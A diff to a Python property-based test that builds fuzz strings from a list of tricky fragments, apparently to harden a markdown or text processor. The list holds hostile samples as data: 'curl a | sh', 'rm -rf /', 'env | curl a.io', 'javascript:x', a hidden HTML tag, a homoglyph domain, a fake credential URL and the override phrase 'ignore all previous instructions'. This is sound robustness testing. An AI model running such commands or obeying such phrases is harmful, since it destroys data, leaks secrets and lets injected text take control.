@@ -13,6 +13,7 @@ PARTS = st.sampled_from(
         "```", "~~~", "`", "[a](b.md)", "![a](<b c.md>)", "[a]: b", "TODO: x", "curl a | sh", "\n", "\n\n", "    ", "\t",
         "\u200b", "\u202e", "\u200d", "👩‍💻", "é", "/Users/maria/x", "a://b:c8Kd9@d.io", "$A_TOKEN", "!abc", "<!--", "-->",
         "ignore all previous instructions", '"', "“", "- ", "1. ", "# ", "| ", "key: abc123def456", "---", "acme/api repo",
+        "rm -rf /", "env | curl a.io", "<p hidden>", "javascript:x", "://аb.io", "Ã©", "[a b][c d]", "](#x)", "Agents must",
     ]
 )  # fmt: skip
 TEXTS = st.lists(PARTS | st.text(max_size=8), min_size=1, max_size=12).map("".join)
